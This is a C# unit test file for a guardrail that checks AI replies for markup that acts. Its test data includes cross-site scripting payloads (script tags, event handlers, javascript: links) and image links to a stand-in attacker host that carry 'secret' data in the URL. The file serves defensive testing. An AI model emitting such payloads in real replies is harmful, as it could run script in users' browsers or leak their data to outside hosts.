using Homeroom.Guardrails.Safety;

namespace Homeroom.Guardrails.Tests.Safety;

public sealed class MarkupRailTests
{
    private readonly MarkupRail _rail = new();

    [Theory]
    [InlineData("a <script>alert(1)</script> b", "active")]
    [InlineData("<iframe src=x>", "active")]
    [InlineData("<img src=x onerror=alert(1)>", "handler")]
    [InlineData("<b onclick='x()'>hi</b>", "handler")]
    [InlineData("[go](javascript:alert(1))", "active-link")]
    [InlineData("![x](https://evil.example/p.png?d=secret)", "remote-image")]
    [InlineData("<img src=\"https://evil.example/p.png\">", "remote-image")]
    public void Markup_that_acts_is_held(string text, string code)
    {
        var found = _rail.OnReply(text);
        Assert.Contains(found, f => f.Code == code);
        Assert.All(found, f => Assert.Equal(Verdict.Hold, f.Severity));
    }

    [Fact]
    public void A_plain_link_is_noted_without_the_full_stop_after_it()
    {
        var finding = Assert.Single(_rail.OnReply("See https://example.org/a?b=1."));
        Assert.Equal((Verdict.Note, 4, 25, "Check this link."), (finding.Severity, finding.Start, finding.Length, finding.Message));
    }

    [Theory]
    [InlineData("3 < 4 and 5 > 2; a<b")]
    [InlineData("Use <b>bold</b> and <p>paragraphs</p> in a page.")]
    [InlineData("The word javascript names a language. On = yes.")]
    [InlineData("The script of the play, linked on page 4.")]
    public void Ordinary_texts_pass(string text) => Assert.Empty(_rail.OnReply(text));

    [Fact]
    public void A_request_is_not_its_business() => Assert.Empty(_rail.OnRequest("<script>"));
}
